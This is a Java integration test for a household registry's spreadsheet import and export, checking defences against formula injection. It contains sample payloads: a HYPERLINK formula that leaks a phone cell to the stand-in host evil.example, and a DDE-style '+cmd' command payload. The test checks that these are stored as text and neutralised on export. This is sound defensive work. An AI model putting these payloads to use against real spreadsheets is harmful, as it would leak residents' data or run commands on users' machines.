package cn.shequflow.household;

import static org.assertj.core.api.Assertions.assertThat;

import cn.shequflow.spreadsheet.SpreadsheetText;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;

/**
 * Issue 10 item 12: a hostile household sheet through the real import endpoint. Text that starts with = + - @ is
 * stored as the text it is and neutralised when written out again; an .xlsx formula cell is never imported.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
class SpreadsheetFormulaImportTest {

  private static final String HEADER = "户编号,网格,地址,户主姓名,联系电话,微信,QQ,家庭人口,特殊类型\n";
  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&D2,\"点击查看\")";
  private static final String CMD = "+cmd|'/C calc'!A0";
  private static final String SUM = "@SUM(1+1)";
  private static final String ARITHMETIC = "-2+3";
  private static final ObjectMapper JSON = new ObjectMapper();

  @Autowired HouseholdRepository repository;
  @Autowired JdbcTemplate jdbc;
  @Autowired TestRestTemplate rest;

  private long lastIdBefore;

  @BeforeEach
  void rememberLastId() {
    lastIdBefore = jdbc.queryForObject("select coalesce(max(id), 0) from household", Long.class);
  }

  @AfterEach
  void removeOurHouseholds() {
    jdbc.update("delete from household where id > ?", lastIdBefore);
  }

  @Test
  @DisplayName("issue 10 item 12 CSV 中以 = + - @ 开头的单元格按原文存为文本，导出时加单引号、写成文本单元格")
  void csvFormulaText_isStoredAsText_andNeutralisedInExports() throws Exception {
    String csv = HEADER
        + "X1-001,grid-1,\"" + HYPERLINK.replace("\"", "\"\"") + "\"," + CMD + ",13941400051," + SUM + ","
        + ARITHMETIC + ",2,\n"
        // an ordinary household in the same file: nothing about it changes
        + "X1-002,grid-1,本溪市平山区崔东街道东兴路5号楼1单元101室,孙桂兰,13941400052,sgl1950,,1,\n";

    ResponseEntity<String> answer = upload("hostile.csv", csv.getBytes(StandardCharsets.UTF_8));

    assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.OK);
    Household hostile = repository.findByNumber("X1-001").orElseThrow();
    assertThat(hostile.address()).isEqualTo(HYPERLINK);
    assertThat(hostile.headName()).isEqualTo(CMD);
    assertThat(hostile.wechat()).isEqualTo(SUM);
    assertThat(hostile.qq()).isEqualTo(ARITHMETIC);
    Household plain = repository.findByNumber("X1-002").orElseThrow();

    // CSV export: a single quote in front, quotes doubled, the ordinary row untouched
    assertThat(csvRow(hostile)).isEqualTo("X1-001,\"'" + HYPERLINK.replace("\"", "\"\"") + "\",'" + CMD
        + ",13941400051,'" + SUM + ",'" + ARITHMETIC);
    assertThat(csvRow(plain)).isEqualTo("X1-002,本溪市平山区崔东街道东兴路5号楼1单元101室,孙桂兰,13941400052,sgl1950,");

    // .xlsx export read back as Excel reads it: text cells, quote-prefixed, never a formula, the exact text
    try (XSSFWorkbook exported = new XSSFWorkbook(new ByteArrayInputStream(xlsxExport(List.of(hostile, plain))))) {
      Row row = exported.getSheetAt(0).getRow(0);
      for (int c = 0; c < 6; c++) {
        assertThat(row.getCell(c).getCellType()).as("列 %d", c).isEqualTo(CellType.STRING);
      }
      assertThat(row.getCell(1).getStringCellValue()).isEqualTo(HYPERLINK);
      assertThat(row.getCell(1).getCellStyle().getQuotePrefixed()).isTrue();
      assertThat(row.getCell(2).getStringCellValue()).isEqualTo(CMD);
      assertThat(row.getCell(2).getCellStyle().getQuotePrefixed()).isTrue();
      assertThat(row.getCell(4).getCellStyle().getQuotePrefixed()).isTrue();
      assertThat(row.getCell(5).getStringCellValue()).isEqualTo(ARITHMETIC);
      assertThat(row.getCell(5).getCellStyle().getQuotePrefixed()).isTrue();
      assertThat(row.getCell(3).getCellStyle().getQuotePrefixed()).as("电话不以公式字符开头").isFalse();
      assertThat(exported.getSheetAt(0).getRow(1).getCell(2).getCellStyle().getQuotePrefixed()).isFalse();
    }
  }

  @Test
  @DisplayName("issue 10 item 12 Excel 公式单元格（有无缓存结果都算）不导入：整份文件拒收，逐行中文说明如何改成数值")
  void xlsxFormulaCells_areRefused_withTheRowAndAChineseFix() throws Exception {
    byte[] xlsx;
    try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      Sheet sheet = workbook.createSheet("户籍");
      text(sheet.createRow(0), HEADER.strip().split(","));
      Row linked = sheet.createRow(1);
      text(linked, "Y1-001", "grid-1", "", "郑秀英", "13504140003", "", "", "2", "");
      // a formula without a cached result, as a program writes it
      linked.getCell(2).setCellFormula("HYPERLINK(\"http://evil.example/?d=\"&D2,\"点击查看\")");
      Row counted = sheet.createRow(2);
      text(counted, "Y1-002", "grid-1", "本溪市平山区崔东街道东兴路6号楼1单元101室", "吴晓燕", "", "", "", "", "");
      // a formula with its result cached, as Excel saves it: the cached 2 is what the importer would have read
      Cell members = counted.createCell(7);
      members.setCellFormula("1+1");
      workbook.getCreationHelper().createFormulaEvaluator().evaluateFormulaCell(members);
      Row typed = sheet.createRow(3);
      text(typed, "Y1-003", "grid-1", "本溪市平山区崔东街道东兴路6号楼1单元102室", CMD, "", SUM, ARITHMETIC, "3", "");
      workbook.write(out);
      xlsx = out.toByteArray();
    }

    ResponseEntity<String> refused = upload("公式.xlsx", xlsx);

    assertThat(refused.getStatusCode()).isEqualTo(HttpStatus.UNPROCESSABLE_ENTITY);
    JsonNode report = JSON.readTree(refused.getBody());
    assertThat(report.get("errors")).extracting(JsonNode::asText).containsExactly(
        "第2行：地址是 Excel 公式，不导入公式：请在 Excel 中选中这些单元格，复制后“选择性粘贴 → 数值”，保存后再导入",
        "第3行：家庭人口是 Excel 公式，不导入公式：请在 Excel 中选中这些单元格，复制后“选择性粘贴 → 数值”，保存后再导入");
    assertThat(repository.findByNumber("Y1-001")).isEmpty();
    assertThat(repository.findByNumber("Y1-003")).isEmpty();

    // the same sheet with the formulas pasted as values: typed text that merely starts with + @ - is imported as is
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx));
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      Sheet sheet = workbook.getSheetAt(0);
      sheet.getRow(1).removeCell(sheet.getRow(1).getCell(2));
      sheet.getRow(1).createCell(2).setCellValue(HYPERLINK);
      sheet.getRow(2).removeCell(sheet.getRow(2).getCell(7));
      sheet.getRow(2).createCell(7).setCellValue("2");
      workbook.write(out);
      xlsx = out.toByteArray();
    }
    ResponseEntity<String> accepted = upload("数值.xlsx", xlsx);

    assertThat(accepted.getStatusCode()).as(accepted.getBody()).isEqualTo(HttpStatus.OK);
    assertThat(repository.findByNumber("Y1-001").orElseThrow().address()).isEqualTo(HYPERLINK);
    assertThat(repository.findByNumber("Y1-002").orElseThrow().memberCount()).isEqualTo(2);
    Household typed = repository.findByNumber("Y1-003").orElseThrow();
    assertThat(typed.headName()).isEqualTo(CMD);
    assertThat(typed.wechat()).isEqualTo(SUM);
    assertThat(typed.qq()).isEqualTo(ARITHMETIC);
  }

  @Test
  @DisplayName("issue 10 item 12 只中和不拒收：普通文本原样导出，以公式字符开头的才加单引号")
  void neutralise_onlyTouchesFormulaStarts() {
    assertThat(SpreadsheetText.neutralise("-")).isEqualTo("'-");
    assertThat(SpreadsheetText.neutralise("13941400051")).isEqualTo("13941400051");
    assertThat(SpreadsheetText.neutralise("0414-2812345")).isEqualTo("0414-2812345");
    assertThat(SpreadsheetText.neutralise("张伟")).isEqualTo("张伟");
    assertThat(SpreadsheetText.neutralise("\tcalc")).isEqualTo("'\tcalc");
    assertThat(SpreadsheetText.neutralise("")).isEmpty();
    assertThat(SpreadsheetText.csvField(null)).isEmpty();
    assertThat(SpreadsheetText.csvField("东侧, 临街")).isEqualTo("\"东侧, 临街\"");
  }

  /** The columns an export of the registry would carry, written the way every export must write them. */
  private static String csvRow(Household h) {
    return String.join(",", SpreadsheetText.csvField(h.householdNo()), SpreadsheetText.csvField(h.address()),
        SpreadsheetText.csvField(h.headName()), SpreadsheetText.csvField(h.phone()),
        SpreadsheetText.csvField(h.wechat()), SpreadsheetText.csvField(h.qq()));
  }

  private static byte[] xlsxExport(List<Household> households) throws Exception {
    try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      Sheet sheet = workbook.createSheet("户籍");
      CellStyle quoted = SpreadsheetText.quotePrefixed(workbook);
      for (int r = 0; r < households.size(); r++) {
        Household h = households.get(r);
        Row row = sheet.createRow(r);
        String[] values = {h.householdNo(), h.address(), h.headName(), h.phone(), h.wechat(), h.qq()};
        for (int c = 0; c < values.length; c++) {
          SpreadsheetText.set(row.createCell(c), values[c], quoted);
        }
      }
      workbook.write(out);
      return out.toByteArray();
    }
  }

  private static void text(Row row, String... values) {
    for (int c = 0; c < values.length; c++) {
      if (!values[c].isEmpty()) {
        row.createCell(c).setCellValue(values[c]);
      } else {
        row.createCell(c);
      }
    }
  }

  private ResponseEntity<String> upload(String fileName, byte[] content) {
    HttpHeaders headers = new HttpHeaders();
    headers.setBasicAuth("liuyang", "demo");
    headers.setContentType(MediaType.MULTIPART_FORM_DATA);
    MultiValueMap<String, Object> form = new LinkedMultiValueMap<>();
    form.add("file", new ByteArrayResource(content) {
      @Override
      public String getFilename() {
        return fileName;
      }
    });
    return rest.exchange("/api/households/import?wait=true", HttpMethod.POST, new HttpEntity<>(form, headers),
        String.class);
  }
}
